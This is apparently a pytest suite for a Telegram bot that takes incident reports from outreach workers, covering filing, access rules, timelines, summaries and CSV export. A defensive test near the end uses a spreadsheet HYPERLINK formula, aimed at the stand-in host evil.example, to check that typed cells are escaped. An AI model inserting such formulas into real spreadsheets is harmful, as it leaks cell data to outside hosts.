"""Incident reports end to end: filing by buttons, what supervisors see, drafts, follow-ups, timeline,
summary, export, and who may see what."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from hypothesis import example, given
from hypothesis import strategies as st

from bot.textsplit import pieces
from storage.incidents import Filters
from tests.auxil.harness import Chatter, Harness
from tests.auxil.standin.api import utf16_len
from tests.test_checkin import check_in

BUTTONS = [
    "rp:category:arrest",
    "rp:affected:me",
    "rp:when:now",
    "rp:where:h1",
    "rp:perpetrator:police",
    "rp:severity:3",
    "rp:skip:account",
    "rp:support:legal",
    "rp:authorities:afraid",
]


async def file_by_buttons(worker: Chatter, taps: list[str] = BUTTONS) -> str:
    sent = await worker.say("/report")
    for data in taps:
        sent = await worker.tap(sent[-1], data)
    assert sent[-1].text.startswith("Your report:")
    sent = await worker.tap(sent[-1], "rp:send")
    mine = [s for s in sent if s.chat_id == worker.chat_id and s.shows]
    assert mine[-1].text.startswith("Sent. Your reference: R-")
    return mine[-1].text.split("reference: ")[1].split(".")[0]


async def test_report_by_buttons_alone_supervisor_told_without_account(harness: Harness) -> None:
    supervisor = await harness.enrol("supervisor", "north")
    manager = await harness.enrol("manager")
    worker = await harness.enrol("worker", "north")
    sent = await worker.say("/report")
    assert sent[-1].text == "What happened?" and len(sent[-1].buttons) == 15  # 14 kinds + cancel, no skip
    taps = [*BUTTONS[:6], None, *BUTTONS[7:]]
    for data in taps:
        if data is None:
            sent = await worker.say("Mkaccount they took my phone and threatened to tell my family")
        else:
            sent = await worker.tap(sent[-1], data)
    summary = sent[-1].text
    assert "• What: Arrest or detention" in summary and "• Where: Bar La Luna" in summary
    sent = await worker.tap(sent[-1], "rp:send")
    ref = [s for s in sent if s.chat_id == worker.chat_id][-1].text.split("reference: ")[1].split(".")[0]
    # support asked for (legal): one line says the supervisor will be in touch; the contacts come with /support
    assert [s for s in sent if s.chat_id == worker.chat_id][-1].text == (
        f"Sent. Your reference: {ref}. Thank you.\nYour supervisor will contact you. Contacts: /support."
    )
    assert "• Legal: Legal aid" in (await worker.say("/support"))[-1].text
    told = supervisor.last().text
    assert told.startswith(f"New report {ref} from {worker.person.code}: Arrest or detention. Severity: 3.")
    assert "Bar La Luna" in told and "Mkaccount" not in told
    assert [s for s in harness.api.sent if s.chat_id == manager.chat_id and "New report" in (s.text or "")] == []
    raw = b"".join(p.read_bytes() for p in (harness.tmp / "data").glob("outreach.db*"))
    assert b"Mkaccount" not in raw and b"threatened" not in raw
    # The manager reads it in full; the view is audit-logged.
    text = (await manager.say(f"/incident {ref}"))[-1].text
    assert "Mkaccount they took my phone" in text
    async with harness.storage.db.read() as tx:
        actions = [a for a, _, _ in await harness.storage.audit.actions(tx)]
    assert "incident.file" in actions and "incident.view" in actions


async def test_every_step_but_what_can_be_skipped(harness: Harness) -> None:
    worker = await harness.enrol("worker", "north")
    taps = ["rp:category:other"] + [
        f"rp:skip:{s}"
        for s in ("affected", "when", "where", "perpetrator", "severity", "account", "support", "authorities")
    ]
    ref = await file_by_buttons(worker, taps)
    async with harness.storage.db.read() as tx:
        incident = await harness.storage.incidents.by_ref(tx, worker.person.org_id, ref)
    assert incident.category == "other" and incident.severity is None and incident.place is None


async def test_dates_typed_place_and_long_account(harness: Harness) -> None:
    worker = await harness.enrol("worker", "north")
    sent = await worker.say("/report")
    sent = await worker.tap(sent[-1], "rp:category:theft")
    sent = await worker.tap(sent[-1], "rp:affected:me")
    sent = await worker.tap(sent[-1], "rp:when:date")
    example = "Write the date like 20/11 or 20/11/2026. It cannot be in the future."
    assert sent[-1].text == example
    for bad in ("31/02/2026", "24/11/2026", "yesterday-ish", "2020-01-01"):  # today is 23/11/2026
        assert (await worker.say(bad))[-1].text == example
    sent = await worker.say("20/11")
    sent = await worker.tap(sent[-1], "rp:where:other")
    sent = await worker.say("Mkplace behind the market")
    assert sent[-1].text == "Who did it?"
    for data in ("rp:perpetrator:client", "rp:severity:2"):
        sent = await worker.tap(sent[-1], data)
    long_text = "Mkstory " + "x" * 4090
    sent = await worker.say(long_text[:4096])
    assert sent[-1].text.startswith("Saved: 4096 characters.")
    sent = await worker.say("and the rest of it")  # a short last part ends the account
    for data in ("rp:support:none", "rp:authorities:no"):
        sent = await worker.tap(sent[-1], data)
    assert "• Your words: 4115 characters" in sent[-1].text
    await worker.tap(sent[-1], "rp:send")
    async with harness.storage.db.read() as tx:
        [incident], _ = await harness.storage.incidents.page(tx, Filters(org_id=worker.person.org_id), 0, 10)
        full = await harness.storage.incidents.by_ref(tx, worker.person.org_id, incident.ref)
    assert full.occurred_on.isoformat() == "2026-11-20" and full.place == "Mkplace behind the market"
    assert full.account == long_text[:4096] + "\nand the rest of it"
    raw = b"".join(p.read_bytes() for p in (harness.tmp / "data").glob("outreach.db*"))
    assert b"Mkplace" not in raw and b"Mkstory" not in raw and b"2026-11-20" not in raw


async def test_a_long_account_in_emoji_and_arabic_reads_whole_in_pieces_telegram_accepts(harness: Harness) -> None:
    # Telegram counts a message's 4,096 characters in UTF-16 units, where an emoji counts twice; the
    # stand-in refuses longer texts as the Bot API does.
    manager = await harness.enrol("manager")
    worker = await harness.enrol("worker", "north")
    sent = await worker.say("/report")
    for data in BUTTONS[:6]:
        sent = await worker.tap(sent[-1], data)
    parts = [("😀 شكرا " * 600)[:4000], ("🚨 لا " * 800)[:4000], "end of it"]
    for part in parts:
        sent = await worker.say(part)
    for data in BUTTONS[7:]:
        sent = await worker.tap(sent[-1], data)
    sent = await worker.tap(sent[-1], "rp:send")
    ref = [s for s in sent if s.chat_id == worker.chat_id][-1].text.split("reference: ")[1].split(".")[0]
    shown = await manager.say(f"/incident {ref}")
    assert len(shown) >= 3 and all(s.shows for s in shown)
    assert all(utf16_len(s.text) <= 4096 for s in shown)
    words = "\n".join(parts).split()  # the account ends the view, whole; pieces are cut between words
    assert " ".join(s.text for s in shown).split()[-len(words) :] == words
    assert [bool(s.buttons) for s in shown] == [False] * (len(shown) - 1) + [True]  # follow-ups on the last
    assert not harness.errors


async def test_change_before_sending(harness: Harness) -> None:
    worker = await harness.enrol("worker", "north")
    sent = await worker.say("/report")
    for data in BUTTONS:
        sent = await worker.tap(sent[-1], data)
    sent = await worker.tap(sent[-1], "rp:change")
    sent = await worker.tap(sent[-1], "rp:edit:severity")
    assert sent[-1].text == "How serious is it?"
    sent = await worker.tap(sent[-1], "rp:severity:4")
    assert sent[-1].text.startswith("Your report:") and "• How serious: 4 – Critical" in sent[-1].text


async def test_half_written_report_survives_restart_is_reminded_once_and_dropped(harness: Harness) -> None:
    from bot.jobs.drafts import sweep

    worker = await harness.enrol("worker", "north")
    sent = await worker.say("/report")
    await worker.tap(sent[-1], "rp:category:stalking")
    await harness.restart()
    sent = await worker.say("/report")
    assert sent[-1].text == "Who was affected?"  # continues where it stopped
    harness.clock.advance(timedelta(minutes=31))
    engine, config = harness.app.bot_data.engine, harness.config
    assert await sweep(engine, harness.storage, config, harness.clock.now()) == (1, 0)
    assert await sweep(engine, harness.storage, config, harness.clock.now()) == (0, 0)
    await harness.tick()
    assert worker.last().text == "You have a report that is not sent yet. Continue with /report."
    harness.clock.advance(timedelta(hours=24))
    assert await sweep(engine, harness.storage, config, harness.clock.now()) == (0, 1)
    await harness.tick()
    assert worker.last().text.startswith("Your unfinished report was deleted after 24 hours.")
    assert (await worker.say("/report"))[-1].text == "What happened?"


async def test_something_happened_prefills_place_and_links_checkin(harness: Harness) -> None:
    worker = await harness.enrol("worker", "north")
    await check_in(worker)
    question = (await worker.say("/checkout"))[-1]
    sent = await worker.tap(question, question.buttons[1][1])
    sent = await worker.tap(sent[-1], "rp:category:threat")
    sent = await worker.tap(sent[-1], "rp:affected:me")
    assert sent[-1].text == "Who did it?"  # when and where are already known


async def test_followup_timeline_and_access(harness: Harness) -> None:
    supervisor = await harness.enrol("supervisor", "north")
    other_supervisor = await harness.enrol("supervisor", "south")
    manager = await harness.enrol("manager")
    worker, colleague = await harness.enrol("worker", "north"), await harness.enrol("worker", "north")
    refs = [await file_by_buttons(worker) for _ in range(12)]
    # Access: the reporter and their supervisor see it; a colleague and another team do not.
    for person in (colleague, other_supervisor):
        assert (await person.say(f"/incident {refs[0]}"))[-1].text.startswith("No report with this reference")
    assert (await worker.say(f"/incident {refs[0]}"))[-1].text.startswith(refs[0])
    assert (await colleague.say("/timeline"))[-1].text == "No incidents for this choice."
    assert (await other_supervisor.say("/timeline"))[-1].text == "No incidents for this choice."
    # Timeline: ten a page with next / previous.
    page = (await manager.say("/timeline"))[-1]
    lines = page.text.splitlines()
    assert lines[0] == "Incidents 1–10 of 12:" and len(lines) == 11
    assert " · Bar La Luna · Arrest or detention · 3 · Open · R-" in lines[1]
    page2 = (await manager.tap(page, page.buttons[0][1]))[-1]
    assert page2.text.splitlines()[0] == "Incidents 11–12 of 12:" and page2.buttons[0][0] == "◀ Previous"
    assert (await manager.say("/timeline 4w theft"))[-1].text == "No incidents for this choice."
    assert (await manager.say("/timeline 4w arrest bar"))[-1].text.startswith("Incidents 1–10 of 12")
    # Follow-up by the supervisor, with a note, audit-logged.
    shown = (await supervisor.say(f"/incident {refs[0]}"))[-1]
    assert ("Referred", f"fu:{refs[0]}:referred") in shown.buttons
    sent = await supervisor.tap(shown, f"fu:{refs[0]}:referred")
    sent = await supervisor.say("Mknote sent to legal aid")
    assert sent[-1].text == f"Saved: {refs[0]} is now “Referred”."
    text = (await manager.say(f"/incident {refs[0]}"))[-1].text
    assert "Referred – Mknote sent to legal aid" in text
    assert (await worker.say(f"/incident {refs[0]}"))[-1].buttons == []  # workers cannot set follow-ups
    async with harness.storage.db.read() as tx:
        actions = [a for a, _, _ in await harness.storage.audit.actions(tx)]
    assert "incident.followup:referred" in actions


async def test_summary_counts_and_chart(harness: Harness) -> None:
    manager = await harness.enrol("manager")
    worker = await harness.enrol("worker", "north")
    await file_by_buttons(worker)
    await check_in(worker, duration="ci:dur:30")
    harness.clock.advance(timedelta(minutes=41))
    await harness.tick()
    before = len(harness.api.sent)
    await manager.say("/summary")
    text, photo = harness.api.sent[before:][-2], harness.api.sent[before:][-1]
    assert text.text.startswith("Week of 2026-11-23. Incidents: 1.")
    assert "By type: Arrest or detention 1" in text.text and "By place: Bar La Luna 1" in text.text
    assert "By who did it: Police or security forces 1" in text.text
    assert "Missed check-outs: 1. Alerts: 1." in text.text
    assert "Places with most incidents (12 weeks): Bar La Luna 1" in text.text
    assert photo.method == "sendPhoto"
    assert (await worker.say("/summary"))[-1].text == "This command is for managers and supervisors."


async def test_weekly_job_sends_last_week_to_managers(harness: Harness) -> None:
    from bot.telegram.context import BotContext
    from bot.telegram.jobs import weekly_summaries

    manager = await harness.enrol("manager")
    worker = await harness.enrol("worker", "north")
    await file_by_buttons(worker)
    harness.clock.advance(timedelta(days=7))
    await weekly_summaries(BotContext(harness.app))
    texts = [s for s in harness.api.to(manager.chat_id) if s.method in ("sendMessage", "sendPhoto")][-2:]
    assert texts[0].text.startswith("Week of 2026-11-23. Incidents: 1.") and texts[1].method == "sendPhoto"
    [job] = harness.app.job_queue.get_jobs_by_name("weekly-summary")
    assert str(job.job.trigger.fields[4]) == "mon"  # day_of_week, from [summary] day = monday


async def test_export_csv_with_and_without_accounts(harness: Harness) -> None:
    manager = await harness.enrol("manager")
    worker = await harness.enrol("worker", "north")
    taps = [*BUTTONS[:6], None, *BUTTONS[7:]]
    sent = await worker.say("/report")
    for data in taps:
        sent = await (worker.say("Mkexport account") if data is None else worker.tap(sent[-1], data))
    await worker.tap(sent[-1], "rp:send")
    assert (await worker.say("/export"))[-1].text == "This command is for managers."
    for args, has_account in (("", False), (" accounts", True)):
        sent = await manager.say("/export" + args)
        document = [c for m, c in harness.api.calls if m == "sendDocument"][-1]
        assert sent[-1].method == "sendDocument" and sent[-1].text == "Incidents: 1."
        content = document["document"]["content"].decode("utf-8-sig")
        assert ("Mkexport account" in content) is has_account and "Arrest or detention" in content
    async with harness.storage.db.read() as tx:
        actions = [a for a, _, _ in await harness.storage.audit.actions(tx)]
    assert actions.count("incident.export") == 1 and actions.count("incident.export:accounts") == 1
    from datetime import date

    from bot.services.export import export

    data, count = await export(
        harness.storage, manager.person.org_id, date(2026, 1, 1), date(2026, 12, 31), with_accounts=True
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert count == 1 and rows[0][-1] == "account" and rows[1][-1] == "Mkexport account"
    assert rows[1][3] == "Arrest or detention" and rows[1][6] == "Bar La Luna"


async def test_cli_export_writes_private_csv(harness: Harness, tmp_path) -> None:
    import os
    import stat
    import subprocess
    import sys
    from pathlib import Path

    worker = await harness.enrol("worker", "north")
    await file_by_buttons(worker)
    key = harness.app.bot_data.key
    import base64

    config = tmp_path / "org.toml"
    root = Path(__file__).resolve().parent.parent
    config.write_text(
        (root / "config" / "org.example.toml").read_text().replace("America/Guatemala", "America/Guatemala")
    )
    env = {
        **os.environ,
        "OUTREACH_DATA_DIR": str(harness.settings.data_dir),
        "OUTREACH_CONFIG": str(config),
        "OUTREACH_KEY": base64.b64encode(key).decode(),
    }
    out = tmp_path / "incidents.csv"
    done = subprocess.run(
        [sys.executable, "-m", "bot", "export", "--from", "2026-11-01", "--to", "2026-11-30", str(out)],
        env=env,
        capture_output=True,
        text=True,
        cwd=root,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"Wrote 1 incidents to {out}."
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "Arrest or detention" in out.read_text(encoding="utf-8-sig")
    bad = subprocess.run(
        [sys.executable, "-m", "bot", "export", "--from", "30/11", "--to", "2026-11-30", str(out)],
        env=env,
        capture_output=True,
        text=True,
        cwd=root,
        timeout=60,
    )
    assert bad.returncode == 2 and bad.stderr.strip() == "outreach-bot: --from/--to: write dates like 2026-09-01"


@given(
    text=st.text(st.sampled_from(["a", " ", "\n", "ش", "😀", "\u200d", "é"]), max_size=300),
    limit=st.integers(2, 40),
)
@example(text="aaaa    bbbb", limit=4)
def test_pieces_fit_telegram_and_lose_only_blanks(text: str, limit: int) -> None:
    shown = pieces(text, limit)
    assert all(utf16_len(piece) <= limit and piece.strip() for piece in shown)
    cursor = 0  # the pieces are the text in order; only blanks are left out between them
    for piece in shown:
        found = text.index(piece, cursor)
        assert not text[cursor:found].strip()
        cursor = found + len(piece)
    assert not text[cursor:].strip()
    if utf16_len(text) <= limit and text.strip():
        assert shown == [text]


@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(max_size=40))
@example("=", 'HYPERLINK("http://evil.example/?"&A1,"click")')
def test_typed_text_never_becomes_a_spreadsheet_formula(start: str, rest: str) -> None:
    """Every cell a person typed (a place, an account) that a spreadsheet would run reads as text."""
    from datetime import UTC, date, datetime

    from bot.services.export import to_csv
    from storage.incidents import Incident

    typed = start + rest
    incident = Incident(
        "i", "o", "R-1", "p", None, "threat", None, date(2026, 11, 20), "other", typed, None, None, typed,
        None, None, "open", None, None, datetime(2026, 11, 20, tzinfo=UTC),
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(to_csv([incident], with_accounts=True).decode("utf-8-sig"), newline="")))
    place, account = rows[1][6], rows[1][-1]
    assert place == account == "'" + typed
